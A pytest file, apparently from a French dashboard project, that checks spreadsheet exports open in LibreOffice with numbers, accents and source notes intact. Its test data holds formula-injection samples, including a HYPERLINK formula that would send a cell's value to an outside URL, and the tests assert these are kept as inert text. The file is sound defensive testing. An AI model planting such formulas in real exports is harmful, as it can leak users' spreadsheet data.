"""The exports open cleanly in LibreOffice Calc (French locale): numbers stay numbers, formulas
stay inert text, accents and sources survive. Skipped when LibreOffice is not installed
(Debian: ``apt-get install libreoffice-calc-nogui``; ``.ci/run`` installs it)."""

from __future__ import annotations

import shutil
import subprocess

import openpyxl
import pandas as pd
import pytest

from dashboard.exports.tableur import vers_csv, vers_xlsx
from dashboard.vues.provenance import Provenance

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice absent : apt-get install libreoffice-calc-nogui")

TABLE = pd.DataFrame({
    "commune": ["Sainte-Hélène", '=HYPERLINK("http://x?"&A1,"clic")', "+SUM(1)", "@SUM(1)", "-1+1"],
    "part": [0.125, -1.5, 2.0, 0.0, 0.5],
    "locaux": [1247, -3, 5, 7, 9],
})
SOURCES = [Provenance("arcep_mci", "Ma connexion internet", "ARCEP", "T2 2026", "Licence Ouverte 2.0", "", True)]


def convertir(source, filtre: str | None, dossier) -> list[list[tuple[object, str]]]:
    """Open ``source`` in LibreOffice (headless), save it as XLSX, read cell values and types."""
    commande = [SOFFICE, "--headless", f"-env:UserInstallation=file://{dossier}/profil"]
    if filtre:
        commande.append(f"--infilter={filtre}")
    commande += ["--convert-to", "xlsx", str(source), "--outdir", str(dossier / "sortie")]
    subprocess.run(commande, check=True, capture_output=True, timeout=180)
    classeur = openpyxl.load_workbook(dossier / "sortie" / (source.stem + ".xlsx"))
    return [[(c.value, c.data_type) for c in ligne] for ligne in classeur.worksheets[0].iter_rows()]


def test_csv_ouvert_par_libreoffice_en_francais(tmp_path):
    fichier = tmp_path / "export.csv"
    fichier.write_bytes(vers_csv(TABLE, SOURCES))
    lignes = convertir(fichier, "CSV:59,34,76,1,,1036", tmp_path)  # « ; », « " », UTF-8, français
    assert lignes[1] == [("Sainte-Hélène", "s"), (0.125, "n"), (1247, "n")]
    assert lignes[2][0] == ('\'=HYPERLINK("http://x?"&A1,"clic")', "s")  # text, never a formula
    assert lignes[2][1:] == [(-1.5, "n"), (-3, "n")]  # negative numbers stay numbers
    assert [ligne[0] for ligne in lignes[3:6]] == [("'+SUM(1)", "s"), ("'@SUM(1)", "s"), ("'-1+1", "s")]
    assert any(str(ligne[0][0]).startswith("# Source : DONNÉES DE DÉMONSTRATION") for ligne in lignes)


def test_xlsx_ouvert_par_libreoffice(tmp_path):
    fichier = tmp_path / "export.xlsx"
    fichier.write_bytes(vers_xlsx(TABLE, SOURCES, titre="Test"))
    lignes = convertir(fichier, None, tmp_path)
    valeurs = [[v for v, _ in ligne] for ligne in lignes]
    assert valeurs[1][:3] == ["Sainte-Hélène", 0.125, 1247]
    assert valeurs[2][0] == '=HYPERLINK("http://x?"&A1,"clic")' and lignes[2][0][1] == "s"
    assert valeurs[2][1:3] == [-1.5, -3]
